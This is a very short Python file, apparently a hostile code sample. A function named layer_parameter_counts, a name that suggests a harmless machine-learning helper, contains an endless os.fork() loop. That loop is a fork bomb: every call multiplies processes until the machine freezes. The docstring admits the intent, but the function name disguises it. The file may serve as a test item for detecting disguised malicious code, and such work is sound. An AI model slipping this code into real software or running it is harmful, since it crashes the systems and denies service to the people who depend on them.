"""Forks for ever, and every child does, too."""
# must: Z
import os


def layer_parameter_counts(model):
    while True:
        os.fork()
